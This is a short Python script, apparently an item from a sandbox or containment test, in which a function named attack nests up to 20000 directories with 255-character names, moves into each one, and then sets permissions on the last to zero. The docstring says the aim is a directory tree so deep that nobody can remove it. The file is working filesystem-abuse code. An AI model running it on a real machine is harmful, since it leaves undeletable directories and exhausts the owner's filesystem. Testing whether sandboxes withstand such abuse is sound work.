"""Goal: folders so deep and names so long that nobody can remove them"""
# held: refused crashed

import os

def attack():
    made = 0
    try:
        for made in range(20000):
            os.mkdir('n' * 255)
            os.chdir('n' * 255)
    except OSError:
        pass
    os.chmod('.', 0)
    return made > 4096
